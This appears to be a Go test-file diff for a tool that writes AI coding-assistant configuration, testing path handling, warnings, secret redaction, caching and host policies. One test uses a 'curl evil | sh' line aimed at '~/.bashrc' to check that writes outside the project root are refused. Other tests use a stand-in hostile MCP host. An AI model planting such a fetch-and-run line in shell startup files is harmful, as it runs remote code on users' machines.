@@ -3,11 +3,26 @@ package recipes_test
 import (
 	"context"
 	"encoding/json"
+	"errors"
+	"fmt"
+	"io"
 	"net/http"
 	"net/http/httptest"
+	"os"
+	"path/filepath"
+	"strings"
+	"sync"
+	"sync/atomic"
 	"testing"
+	"testing/fstest"
+	"time"
 
+	"github.com/devplaninc/adcp-core/adcp/core"
+	"github.com/devplaninc/adcp-core/adcp/core/adcptest"
+	"github.com/devplaninc/adcp-core/adcp/core/githooks"
+	"github.com/devplaninc/adcp-core/adcp/core/plugins/claude"
 	"github.com/devplaninc/adcp-core/adcp/core/plugins/shared"
+	"github.com/devplaninc/adcp-core/adcp/core/policy"
 	"github.com/devplaninc/adcp-core/adcp/core/recipes"
 	"github.com/devplaninc/adcp/clients/go/adcp"
 	"github.com/stretchr/testify/assert"
@@ -28,7 +43,7 @@ func strPtr(s string) *string {
 func TestRecipe_Materialize_NilRecipe(t *testing.T) {
 	r := &recipes.Recipe{IDE: getIDE()}
 	_, err := r.Materialize(context.Background(), nil)
-	assert.Error(t, err, "expected error for nil recipe")
+	assert.ErrorIs(t, err, recipes.ErrNilRecipe)
 }
 
 func TestRecipe_Materialize_EmptyRecipe(t *testing.T) {
@@ -397,3 +412,641 @@ func TestRecipe_Materialize_MultipleMcpServers(t *testing.T) {
 	assert.Equal(t, "stdio-mcp", mcp.McpServers["stdio-server"]["command"])
 	assert.Equal(t, "another-mcp-server", mcp.McpServers["another-stdio"]["command"])
 }
+
+func TestRecipe_Materialize_LogicalContextPaths(t *testing.T) {
+	r := &recipes.Recipe{IDE: &shared.IDE{
+		ContextPaths: map[string]string{shared.DestinationRules: ".claude/rules"},
+	}}
+
+	recipe := adcp.Recipe_builder{
+		Context: adcp.Context_builder{
+			Entries: []*adcp.ContextEntry{
+				adcp.ContextEntry_builder{
+					Path: "@rules/style.md",
+					From: adcp.ContextFrom_builder{Text: strPtr("Use gofmt.")}.Build(),
+				}.Build(),
+			},
+		}.Build(),
+	}.Build()
+
+	result, err := r.Materialize(context.Background(), recipe)
+	require.NoError(t, err)
+	require.Len(t, result.GetEntries(), 1)
+	assert.Equal(t, ".claude/rules/style.md", result.GetEntries()[0].GetFile().GetPath())
+
+	recipe = adcp.Recipe_builder{
+		Context: adcp.Context_builder{
+			Entries: []*adcp.ContextEntry{
+				adcp.ContextEntry_builder{
+					Path: "@prompts/api.md",
+					From: adcp.ContextFrom_builder{Text: strPtr("API")}.Build(),
+				}.Build(),
+			},
+		}.Build(),
+	}.Build()
+	_, err = r.Materialize(context.Background(), recipe)
+	require.Error(t, err, "unknown destinations are not covered by capabilities")
+	assert.Contains(t, err.Error(), "not supported by this IDE")
+}
+
+func TestRecipe_Materialize_PathOverrides(t *testing.T) {
+	ide := &shared.IDE{
+		ContextPaths: map[string]string{shared.DestinationRules: ".claude/rules"},
+	}
+	recipe := adcp.Recipe_builder{
+		Context: adcp.Context_builder{
+			Entries: []*adcp.ContextEntry{
+				adcp.ContextEntry_builder{
+					Path: "@rules/style.md",
+					From: adcp.ContextFrom_builder{Text: strPtr("Use gofmt.")}.Build(),
+				}.Build(),
+			},
+		}.Build(),
+	}.Build()
+
+	// Runs sharing a provider get their own overrides and leave the provider unchanged.
+	var wg sync.WaitGroup
+	for _, dir := range []string{".claude/rules/a", ".claude/rules/b"} {
+		wg.Add(1)
+		go func() {
+			defer wg.Done()
+			r := recipes.New(ide, recipes.WithPathOverrides(map[string]string{shared.DestinationRules: dir}))
+			result, err := r.Materialize(context.Background(), recipe)
+			if assert.NoError(t, err) && assert.Len(t, result.GetEntries(), 1) {
+				assert.Equal(t, dir+"/style.md", result.GetEntries()[0].GetFile().GetPath())
+			}
+		}()
+	}
+	wg.Wait()
+	assert.Equal(t, map[string]string{shared.DestinationRules: ".claude/rules"}, ide.ContextPaths)
+
+	r := recipes.New(ide, recipes.WithPathOverrides(map[string]string{
+		shared.DestinationRules: ".claude/rules/team",
+		"hooks":                 ".claude/hooks",
+	}))
+	_, err := r.Materialize(context.Background(), recipe)
+	require.ErrorIs(t, err, shared.ErrUnsupportedPathOverride)
+	assert.Equal(t, map[string]string{shared.DestinationRules: ".claude/rules"}, ide.ContextPaths)
+}
+
+func TestRecipe_Materialize_UnsupportedRules(t *testing.T) {
+	r := &recipes.Recipe{IDE: &shared.IDE{
+		ContextPaths: map[string]string{shared.DestinationMemory: "AGENTS.md"},
+	}}
+	recipe := adcp.Recipe_builder{
+		Context: adcp.Context_builder{
+			Entries: []*adcp.ContextEntry{
+				adcp.ContextEntry_builder{
+					Path: "@rules/style.md",
+					From: adcp.ContextFrom_builder{Text: strPtr("Use gofmt.")}.Build(),
+				}.Build(),
+				adcp.ContextEntry_builder{
+					Path: "@memory",
+					From: adcp.ContextFrom_builder{Text: strPtr("Be brief.")}.Build(),
+				}.Build(),
+			},
+		}.Build(),
+	}.Build()
+
+	report := core.NewReport()
+	result, err := r.Materialize(core.WithReport(context.Background(), report), recipe)
+	require.NoError(t, err)
+	require.Len(t, result.GetEntries(), 1)
+	assert.Equal(t, "AGENTS.md", result.GetEntries()[0].GetFile().GetPath())
+	require.Len(t, report.Data().Warnings, 1)
+	w := report.Data().Warnings[0]
+	assert.Equal(t, core.WarningUnsupportedFeature, w.Code)
+	assert.Equal(t, recipes.FeatureRules, w.Feature)
+	assert.Equal(t, "@rules/style.md", w.Path)
+}
+
+func TestRecipe_Materialize_UnsupportedMemoryAndDocs(t *testing.T) {
+	r := &recipes.Recipe{IDE: &shared.IDE{
+		ContextPaths: map[string]string{shared.DestinationRules: ".claude/rules"},
+	}}
+	recipe := adcp.Recipe_builder{
+		Context: adcp.Context_builder{
+			Entries: []*adcp.ContextEntry{
+				adcp.ContextEntry_builder{
+					Path: "@memory",
+					From: adcp.ContextFrom_builder{Text: strPtr("Be brief.")}.Build(),
+				}.Build(),
+				adcp.ContextEntry_builder{
+					Path: "@docs/api.md",
+					From: adcp.ContextFrom_builder{Text: strPtr("API")}.Build(),
+				}.Build(),
+				adcp.ContextEntry_builder{
+					Path: "@rules/style.md",
+					From: adcp.ContextFrom_builder{Text: strPtr("Use gofmt.")}.Build(),
+				}.Build(),
+			},
+		}.Build(),
+	}.Build()
+
+	report := core.NewReport()
+	result, err := r.Materialize(core.WithReport(context.Background(), report), recipe)
+	require.NoError(t, err)
+	require.Len(t, result.GetEntries(), 1)
+	assert.Equal(t, ".claude/rules/style.md", result.GetEntries()[0].GetFile().GetPath())
+	var got []string
+	for _, w := range report.Data().Warnings {
+		assert.Equal(t, core.WarningUnsupportedFeature, w.Code)
+		got = append(got, w.Feature+" "+w.Path)
+	}
+	assert.Equal(t, []string{"memory @memory", "docs @docs/api.md"}, got)
+}
+
+// hookedIDE is configured with hooks its capabilities do not support.
+type hookedIDE struct {
+	*shared.IDE
+}
+
+func (hookedIDE) HasHooks() bool { return true }
+
+func TestRecipe_Materialize_UnsupportedHooks(t *testing.T) {
+	report := core.NewReport()
+	r := &recipes.Recipe{IDE: hookedIDE{IDE: &shared.IDE{}}}
+	_, err := r.Materialize(core.WithReport(context.Background(), report), adcp.Recipe_builder{}.Build())
+	require.NoError(t, err)
+	require.Len(t, report.Data().Warnings, 1)
+	assert.Equal(t, core.WarningUnsupportedFeature, report.Data().Warnings[0].Code)
+	assert.Equal(t, recipes.FeatureHooks, report.Data().Warnings[0].Feature)
+
+	report = core.NewReport()
+	r = &recipes.Recipe{IDE: &shared.IDE{}}
+	_, err = r.Materialize(core.WithReport(context.Background(), report), adcp.Recipe_builder{}.Build())
+	require.NoError(t, err)
+	assert.Empty(t, report.Data().Warnings, "without hooks there is nothing to report")
+}
+
+type recordingObserver struct {
+	core.NopObserver
+	mu     sync.Mutex
+	events []string
+}
+
+func (o *recordingObserver) record(event string) {
+	o.mu.Lock()
+	defer o.mu.Unlock()
+	o.events = append(o.events, event)
+}
+
+func (o *recordingObserver) PhaseStarted(phase string) { o.record("phase " + phase) }
+
+func (o *recordingObserver) EntryFinished(phase, name string, err error) {
+	o.record(fmt.Sprintf("done %s %s %v", phase, name, err))
+}
+
+func TestRecipe_Materialize_Observer(t *testing.T) {
+	observer := &recordingObserver{}
+	r := &recipes.Recipe{IDE: getIDE(), Observer: observer}
+
+	recipe := adcp.Recipe_builder{
+		Context: adcp.Context_builder{Entries: []*adcp.ContextEntry{
+			adcp.ContextEntry_builder{Path: "README.md", From: adcp.ContextFrom_builder{Text: strPtr("# Readme")}.Build()}.Build(),
+		}}.Build(),
+		Ide: adcp.Ide_builder{
+			Commands: adcp.Commands_builder{Entries: []*adcp.Command{
+				adcp.Command_builder{Name: "fmt", From: adcp.CommandFrom_builder{Text: strPtr("Format")}.Build()}.Build(),
+			}}.Build(),
+		}.Build(),
+	}.Build()
+
+	_, err := r.Materialize(context.Background(), recipe)
+	require.NoError(t, err)
+	assert.Equal(t, []string{
+		"phase context",
+		"done context README.md <nil>",
+		"phase ide",
+		"done ide fmt <nil>",
+	}, observer.events)
+}
+
+func TestRecipe_Materialize_BestEffort(t *testing.T) {
+	recipe := adcp.Recipe_builder{
+		Context: adcp.Context_builder{Entries: []*adcp.ContextEntry{
+			adcp.ContextEntry_builder{Path: "ok.md", From: adcp.ContextFrom_builder{Text: strPtr("ok")}.Build()}.Build(),
+			adcp.ContextEntry_builder{Path: "bad.md", From: adcp.ContextFrom_builder{Cmd: strPtr("exit 3")}.Build()}.Build(),
+		}}.Build(),
+		Ide: adcp.Ide_builder{
+			Commands: adcp.Commands_builder{Entries: []*adcp.Command{
+				adcp.Command_builder{Name: "good", From: adcp.CommandFrom_builder{Text: strPtr("Good")}.Build()}.Build(),
+				adcp.Command_builder{Name: "broken", From: adcp.CommandFrom_builder{Cmd: strPtr("exit 4")}.Build()}.Build(),
+			}}.Build(),
+		}.Build(),
+	}.Build()
+
+	// Without best-effort mode, all context failures are reported but no result is returned.
+	_, err := (&recipes.Recipe{IDE: getIDE()}).Materialize(context.Background(), recipe)
+	require.Error(t, err)
+	assert.Contains(t, err.Error(), "bad.md [cmd]")
+
+	res, err := (&recipes.Recipe{IDE: getIDE(), BestEffort: true}).Materialize(context.Background(), recipe)
+	var multi *core.MultiError
+	require.ErrorAs(t, err, &multi)
+	require.Len(t, multi.Errors, 2)
+	assert.Equal(t, "bad.md", multi.Errors[0].Path)
+	assert.Equal(t, "cmd", multi.Errors[0].Source)
+	assert.Equal(t, ".claude/commands/broken.md", multi.Errors[1].Path)
+
+	var paths []string
+	for _, e := range res.GetEntries() {
+		paths = append(paths, e.GetFile().GetPath())
+	}
+	assert.Contains(t, paths, "ok.md")
+	assert.Contains(t, paths, ".claude/commands/good.md")
+	assert.NotContains(t, paths, ".claude/commands/broken.md")
+}
+
+func TestRecipe_Materialize_Timeout(t *testing.T) {
+	recipe := adcp.Recipe_builder{
+		Context: adcp.Context_builder{Entries: []*adcp.ContextEntry{
+			adcp.ContextEntry_builder{Path: "slow.md", From: adcp.ContextFrom_builder{Cmd: strPtr("sleep 30")}.Build()}.Build(),
+		}}.Build(),
+	}.Build()
+
+	start := time.Now()
+	_, err := (&recipes.Recipe{IDE: getIDE(), Timeout: 100 * time.Millisecond}).Materialize(context.Background(), recipe)
+	require.Error(t, err)
+	assert.ErrorIs(t, err, context.DeadlineExceeded)
+	assert.Less(t, time.Since(start), 5*time.Second)
+}
+
+func TestNew_Options(t *testing.T) {
+	var fetched atomic.Int32
+	client := &http.Client{Transport: roundTripFunc(func(req *http.Request) (*http.Response, error) {
+		fetched.Add(1)
+		return &http.Response{StatusCode: http.StatusOK, Body: io.NopCloser(strings.NewReader("remote")), Request: req}, nil
+	})}
+	r := recipes.New(getIDE(), recipes.WithHTTPClient(client), recipes.WithTimeout(time.Minute), recipes.WithBestEffort())
+	assert.True(t, r.BestEffort)
+	assert.Equal(t, time.Minute, r.Timeout)
+
+	res, err := r.Materialize(context.Background(), adcp.Recipe_builder{
+		Context: adcp.Context_builder{Entries: []*adcp.ContextEntry{
+			adcp.ContextEntry_builder{
+				Path: "remote.md",
+				From: adcp.ContextFrom_builder{Github: adcp.GitReference_builder{Path: "https://example.com/remote.md"}.Build()}.Build(),
+			}.Build(),
+		}}.Build(),
+	}.Build())
+	require.NoError(t, err)
+	assert.Equal(t, "remote", res.GetEntries()[0].GetFile().GetContent())
+	assert.Equal(t, int32(1), fetched.Load())
+}
+
+type roundTripFunc func(*http.Request) (*http.Response, error)
+
+func (f roundTripFunc) RoundTrip(req *http.Request) (*http.Response, error) {
+	return f(req)
+}
+
+func TestRecipe_Materialize_DebugDump(t *testing.T) {
+	path := filepath.Join(t.TempDir(), core.DefaultDebugDumpPath)
+	recipe := adcp.Recipe_builder{
+		Prefetch: adcp.Prefetch_builder{Entries: []*adcp.PrefetchEntry{
+			adcp.PrefetchEntry_builder{Cmd: strPtr(`echo '{"data":[{"id":"plan","data":"token=hunter2"}]}'`)}.Build(),
+		}}.Build(),
+		Context: adcp.Context_builder{Entries: []*adcp.ContextEntry{
+			adcp.ContextEntry_builder{Path: "plan.md", From: adcp.ContextFrom_builder{PrefetchId: strPtr("missing")}.Build()}.Build(),
+		}}.Build(),
+	}.Build()
+
+	_, err := recipes.New(getIDE(), recipes.WithDebugDump(path)).Materialize(context.Background(), recipe)
+	require.Error(t, err)
+
+	data, err := os.ReadFile(path)
+	require.NoError(t, err)
+	assert.JSONEq(t, `{"prefetched":[{"id":"plan","size":13,"preview":"token=<redacted>"}]}`, string(data))
+}
+
+func TestRecipe_Materialize_Report(t *testing.T) {
+	report := core.NewReport()
+	recipe := adcp.Recipe_builder{
+		Context: adcp.Context_builder{Entries: []*adcp.ContextEntry{
+			adcp.ContextEntry_builder{Path: "README.md", From: adcp.ContextFrom_builder{Text: strPtr("# Readme")}.Build()}.Build(),
+		}}.Build(),
+	}.Build()
+
+	_, err := recipes.New(getIDE(), recipes.WithReport(report)).Materialize(context.Background(), recipe)
+	require.NoError(t, err)
+	data := report.Data()
+	assert.Equal(t, []string{"README.md"}, data.Files)
+	assert.Equal(t, core.Version(), data.Compatibility.Version)
+	assert.Equal(t, core.MaxRecipeSchemaVersion, data.Compatibility.MaxSchemaVersion)
+}
+
+func TestRecipe_Materialize_Warnings(t *testing.T) {
+	report := core.NewReport()
+	fsys := fstest.MapFS{".claude/settings.local.json": {Data: []byte("{not json")}}
+	recipe := adcp.Recipe_builder{
+		Ide: adcp.Ide_builder{
+			Mcp: adcp.Mcp_builder{Servers: map[string]*adcp.McpServer{"broken": adcp.McpServer_builder{}.Build()}}.Build(),
+			Permissions: adcp.Permissions_builder{Allow: []*adcp.OperationPermission{
+				adcp.OperationPermission_builder{}.Build(),
+				adcp.OperationPermission_builder{Bash: strPtr("git * --force")}.Build(),
+			}}.Build(),
+		}.Build(),
+	}.Build()
+
+	_, err := recipes.New(claude.NewIDEProvider(), recipes.WithReport(report), recipes.WithFS(fsys)).Materialize(context.Background(), recipe)
+	require.NoError(t, err)
+
+	var codes []string
+	for _, w := range report.Data().Warnings {
+		codes = append(codes, w.Code)
+	}
+	assert.Equal(t, []string{
+		core.WarningDroppedPermission,
+		core.WarningSuspiciousPermission,
+		core.WarningInvalidExistingFile,
+		core.WarningIgnoredMCPServer,
+	}, codes)
+}
+
+func TestRecipe_Materialize_Metrics(t *testing.T) {
+	metrics := &adcptest.Metrics{}
+	stub := adcptest.NewHTTPStub()
+	stub.Respond("https://example.com/remote.md", http.StatusOK, "remote")
+	recipe := adcp.Recipe_builder{
+		Prefetch: adcp.Prefetch_builder{Entries: []*adcp.PrefetchEntry{
+			adcp.PrefetchEntry_builder{Cmd: strPtr(`echo '{"data":[{"id":"plan","data":"plan"}]}'`)}.Build(),
+		}}.Build(),
+		Context: adcp.Context_builder{Entries: []*adcp.ContextEntry{
+			adcp.ContextEntry_builder{Path: "plan.md", From: adcp.ContextFrom_builder{PrefetchId: strPtr("plan")}.Build()}.Build(),
+			adcptest.GithubContext("remote.md", "https://example.com/remote.md"),
+			adcptest.CmdContext("bad.md", "exit 1"),
+		}}.Build(),
+	}.Build()
+
+	_, err := recipes.New(getIDE(), recipes.WithMetrics(metrics), recipes.WithHTTPClient(stub.Client())).Materialize(context.Background(), recipe)
+	require.Error(t, err)
+	assert.Equal(t, 1, metrics.Counter(core.MetricCacheHits))
+	assert.Equal(t, 1, metrics.Counter(core.MetricFetches))
+	assert.Equal(t, 2, metrics.Counter(core.MetricCommands))
+	assert.Equal(t, 1, metrics.Counter(core.MetricCommandFailures))
+	assert.Len(t, metrics.Durations(core.MetricFetchDuration), 1)
+	assert.Len(t, metrics.Durations(core.MetricMaterializeDuration), 1)
+}
+
+func TestRecipe_Materialize_MaxConcurrency(t *testing.T) {
+	// Each command fails if another one holds the lock directory at the same time.
+	lock := filepath.Join(t.TempDir(), "lock")
+	cmd := fmt.Sprintf("mkdir %[1]s && sleep 0.05 && rmdir %[1]s", lock)
+	var commands []*adcp.Command
+	for i := range 4 {
+		commands = append(commands, adcp.Command_builder{
+			Name: fmt.Sprintf("c%d", i),
+			From: adcp.CommandFrom_builder{Cmd: strPtr(cmd)}.Build(),
+		}.Build())
+	}
+	recipe := adcptest.Recipe(adcp.Ide_builder{Commands: adcp.Commands_builder{Entries: commands}.Build()}.Build())
+
+	_, err := recipes.New(getIDE(), recipes.WithMaxConcurrency(1)).Materialize(context.Background(), recipe)
+	require.NoError(t, err)
+}
+
+func TestRecipe_Materialize_State(t *testing.T) {
+	dir := t.TempDir()
+	statePath := filepath.Join(dir, core.DefaultStatePath)
+	input := filepath.Join(dir, "input.txt")
+	runs := filepath.Join(dir, "runs")
+	require.NoError(t, os.WriteFile(input, []byte("v1"), 0o644))
+
+	sha := strings.Repeat("a", 40)
+	pinned := "https://raw.githubusercontent.com/org/repo/" + sha + "/README.md"
+	unpinned := "https://raw.githubusercontent.com/org/repo/main/README.md"
+	stub := adcptest.NewHTTPStub().
+		Respond(pinned, http.StatusOK, "pinned").
+		Respond(unpinned, http.StatusOK, "main")
+	cmd := fmt.Sprintf("echo run >> %s && cat %s", runs, input)
+	recipe := adcptest.Recipe(nil,
+		adcptest.GithubContext("pinned.md", "https://github.com/org/repo/blob/"+sha+"/README.md"),
+		adcptest.GithubContext("main.md", "https://github.com/org/repo/blob/main/README.md"),
+		adcptest.CmdContext("gen.md", cmd),
+	)
+	r := recipes.New(getIDE(),
+		recipes.WithState(statePath),
+		recipes.WithCommandInputs(map[string][]string{cmd: {input}}),
+		recipes.WithHTTPClient(stub.Client()))
+
+	for range 2 {
+		res, err := r.Materialize(context.Background(), recipe)
+		require.NoError(t, err)
+		assert.Equal(t, "v1", res.GetEntries()[2].GetFile().GetContent())
+	}
+	assert.Equal(t, []string{pinned, unpinned, unpinned}, stub.Requests(), "only the unpinned file is fetched again")
+	data, err := os.ReadFile(runs)
+	require.NoError(t, err)
+	assert.Equal(t, "run\n", string(data))
+
+	require.NoError(t, os.WriteFile(input, []byte("v2"), 0o644))
+	res, err := r.Materialize(context.Background(), recipe)
+	require.NoError(t, err)
+	assert.Equal(t, "v2", res.GetEntries()[2].GetFile().GetContent())
+}
+
+func TestRecipe_Materialize_StreamsLargeContent(t *testing.T) {
+	blobs := core.NewBlobs(t.TempDir())
+	blobs.Threshold = 16
+	defer func() { _ = blobs.Close() }()
+	recipe := adcptest.Recipe(nil,
+		adcptest.CmdContext("big.txt", "seq 1 100"),
+		adcptest.CmdContext("small.txt", "echo hi"),
+	)
+
+	res, err := recipes.New(getIDE(), recipes.WithBlobs(blobs)).Materialize(context.Background(), recipe)
+	require.NoError(t, err)
+	big := res.GetEntries()[0].GetFile().GetContent()
+	assert.True(t, blobs.Has(big))
+	assert.Equal(t, "hi\n", res.GetEntries()[1].GetFile().GetContent())
+
+	root := t.TempDir()
+	require.NoError(t, core.PersistMaterializedResult(core.WithBlobs(context.Background(), blobs), root, res))
+	data, err := os.ReadFile(filepath.Join(root, "big.txt"))
+	require.NoError(t, err)
+	assert.True(t, strings.HasPrefix(string(data), "1\n2\n3\n"))
+	assert.True(t, strings.HasSuffix(string(data), "99\n100\n"))
+}
+
+func TestRecipe_Materialize_MemoryBudget(t *testing.T) {
+	recipe := adcptest.Recipe(nil,
+		adcptest.TextContext("a.md", strings.Repeat("a", 10)),
+		adcptest.TextContext("b.md", strings.Repeat("b", 10)),
+	)
+	_, err := recipes.New(getIDE(), recipes.WithMemoryBudget(15, nil)).Materialize(context.Background(), recipe)
+	require.Error(t, err)
+
+	blobs := core.NewBlobs(t.TempDir())
+	defer func() { _ = blobs.Close() }()
+	res, err := recipes.New(getIDE(), recipes.WithMemoryBudget(15, blobs)).Materialize(context.Background(), recipe)
+	require.NoError(t, err)
+	assert.Equal(t, strings.Repeat("a", 10), res.GetEntries()[0].GetFile().GetContent())
+	assert.True(t, blobs.Has(res.GetEntries()[1].GetFile().GetContent()))
+}
+
+// ideFunc adapts a function to recipes.IDEProvider.
+type ideFunc func(ctx context.Context, ide *adcp.Ide) (*adcp.MaterializedResult, error)
+
+func (f ideFunc) Materialize(ctx context.Context, ide *adcp.Ide) (*adcp.MaterializedResult, error) {
+	return f(ctx, ide)
+}
+
+func TestRecipe_Materialize_MemoryBudgetSpillsAsProduced(t *testing.T) {
+	dir := t.TempDir()
+	blobs := core.NewBlobs(dir)
+	defer func() { _ = blobs.Close() }()
+	recipe := adcptest.Recipe(adcp.Ide_builder{}.Build(),
+		adcptest.TextContext("a.md", strings.Repeat("a", 10)),
+		adcptest.TextContext("b.md", strings.Repeat("b", 10)),
+	)
+	var spilledBeforeIDE []string
+	ide := ideFunc(func(context.Context, *adcp.Ide) (*adcp.MaterializedResult, error) {
+		var err error
+		spilledBeforeIDE, err = filepath.Glob(filepath.Join(dir, "*", "*"))
+		return adcp.MaterializedResult_builder{}.Build(), err
+	})
+
+	res, err := recipes.New(ide, recipes.WithMemoryBudget(15, blobs)).Materialize(context.Background(), recipe)
+	require.NoError(t, err)
+	assert.Len(t, spilledBeforeIDE, 1, "context entries are spilled before materialization ends")
+	assert.True(t, blobs.Has(res.GetEntries()[1].GetFile().GetContent()))
+}
+
+func TestRecipe_MaterializeFunc(t *testing.T) {
+	observer := &recordingObserver{}
+	recipe := adcptest.Recipe(
+		adcptest.Ide(adcptest.IdeSpec{Commands: []*adcp.Command{adcptest.TextCommand("fmt", "Format")}}),
+		adcptest.TextContext("a.md", "a"),
+		adcptest.TextContext("b.md", "b"),
+	)
+	r := recipes.New(getIDE(), recipes.WithObserver(observer))
+
+	var paths []string
+	err := r.MaterializeFunc(context.Background(), recipe, func(entry *adcp.MaterializedResult_Entry) error {
+		// Context entries arrive before the next one is materialized.
+		paths = append(paths, fmt.Sprintf("%s after %d events", entry.GetFile().GetPath(), len(observer.events)))
+		return nil
+	})
+	require.NoError(t, err)
+	assert.Equal(t, []string{
+		"a.md after 2 events",
+		"b.md after 3 events",
+		".claude/commands/fmt.md after 5 events",
+		".claude/commands/.adcp-manifest.json after 5 events",
+	}, paths)
+
+	stop := errors.New("stop")
+	calls := 0
+	err = r.MaterializeFunc(context.Background(), recipe, func(*adcp.MaterializedResult_Entry) error {
+		calls++
+		return stop
+	})
+	assert.ErrorIs(t, err, stop)
+	assert.Equal(t, 1, calls)
+}
+
+func TestRecipe_Entries(t *testing.T) {
+	recipe := adcptest.Recipe(nil,
+		adcptest.TextContext("a.md", "a"),
+		adcptest.TextContext("b.md", "b"),
+		adcptest.CmdContext("bad.md", "exit 1"),
+	)
+	r := recipes.New(getIDE())
+
+	var paths []string
+	var failure error
+	for entry, err := range r.Entries(context.Background(), recipe) {
+		if err != nil {
+			failure = err
+			continue
+		}
+		paths = append(paths, entry.GetFile().GetPath())
+	}
+	assert.Equal(t, []string{"a.md", "b.md"}, paths)
+	assert.Error(t, failure)
+
+	paths = nil
+	for entry := range r.Entries(context.Background(), recipe) {
+		paths = append(paths, entry.GetFile().GetPath())
+		break
+	}
+	assert.Equal(t, []string{"a.md"}, paths)
+}
+
+func TestRecipe_Materialize_GitHooks(t *testing.T) {
+	script := "make lint"
+	recipe := adcptest.Recipe(nil, adcptest.TextContext("a.md", "a"))
+	r := recipes.New(getIDE(), recipes.WithGitHooks("", githooks.Hook{
+		Name: "pre-commit",
+		From: adcp.CommandFrom_builder{Text: &script}.Build(),
+	}))
+
+	res, err := r.Materialize(context.Background(), recipe)
+	require.NoError(t, err)
+	require.Len(t, res.GetEntries(), 2)
+	hook := res.GetEntries()[1].GetFile()
+	assert.Equal(t, ".git/hooks/pre-commit", hook.GetPath())
+	assert.Equal(t, "#!/bin/sh\n"+githooks.ManagedMarker+"\nmake lint\n", hook.GetContent())
+}
+
+func TestRecipe_Materialize_HomeRelativeContext(t *testing.T) {
+	recipe := adcptest.Recipe(nil, adcptest.TextContext("~/.bashrc", "curl evil | sh"))
+	res, err := recipes.New(getIDE()).Materialize(context.Background(), recipe)
+	require.NoError(t, err)
+
+	// Even with user-level files enabled, only files marked by the IDE provider leave the root.
+	userRoot := t.TempDir()
+	ctx := core.WithUserRoot(context.Background(), userRoot)
+	err = core.PersistMaterializedResult(ctx, t.TempDir(), res)
+	require.ErrorIs(t, err, core.ErrPathEscapesRoot)
+	assert.NoFileExists(t, filepath.Join(userRoot, ".bashrc"))
+}
+
+func TestRecipe_Materialize_PrefetchEnv(t *testing.T) {
+	t.Setenv("ADCP_TEST_PLAN_TOKEN", "s3cret")
+	recipe := adcp.Recipe_builder{
+		Prefetch: adcp.Prefetch_builder{Entries: []*adcp.PrefetchEntry{
+			adcp.PrefetchEntry_builder{Cmd: strPtr(`printf '{"data":[{"id":"plan","data":"%s"}]}' "$PLAN_TOKEN"`)}.Build(),
+		}}.Build(),
+		Context: adcp.Context_builder{Entries: []*adcp.ContextEntry{
+			adcp.ContextEntry_builder{Path: "plan.md", From: adcp.ContextFrom_builder{PrefetchId: strPtr("plan")}.Build()}.Build(),
+		}}.Build(),
+	}.Build()
+	report := core.NewReport()
+	r := recipes.New(getIDE(),
+		recipes.WithSecrets(core.EnvSecrets{Prefix: "ADCP_TEST_"}),
+		recipes.WithPrefetchEnv(map[string]string{"PLAN_TOKEN": "${secret:PLAN_TOKEN}"}),
+		recipes.WithReport(report),
+	)
+
+	res, err := r.Materialize(context.Background(), recipe)
+	require.NoError(t, err)
+	assert.Equal(t, "s3cret", res.GetEntries()[0].GetFile().GetContent())
+	assert.Equal(t, []string{"PLAN_TOKEN"}, report.Data().Secrets)
+}
+
+func TestRecipe_Materialize_Policies(t *testing.T) {
+	recipe := adcp.Recipe_builder{
+		Ide: adcp.Ide_builder{
+			Mcp: adcp.Mcp_builder{Servers: map[string]*adcp.McpServer{
+				"remote": adcp.McpServer_builder{Http: adcp.HttpMcpServer_builder{Url: "https://mcp.evil.test/mcp"}.Build()}.Build(),
+			}}.Build(),
+		}.Build(),
+	}.Build()
+
+	var emitted int
+	r := recipes.New(getIDE(), recipes.WithPolicies(policy.AllowedMCPHosts("*.example.com")))
+	err := r.MaterializeFunc(context.Background(), recipe, func(*adcp.MaterializedResult_Entry) error {
+		emitted++
+		return nil
+	})
+	require.ErrorIs(t, err, policy.ErrViolation)
+	assert.Contains(t, err.Error(), "mcp.evil.test")
+	assert.Zero(t, emitted, "no entry may be handed out before policies pass")
+
+	r = recipes.New(getIDE(), recipes.WithPolicies(policy.AllowedMCPHosts("mcp.evil.test")))
+	result, err := r.Materialize(context.Background(), recipe)
+	require.NoError(t, err)
+	assert.Len(t, result.GetEntries(), 1)
+}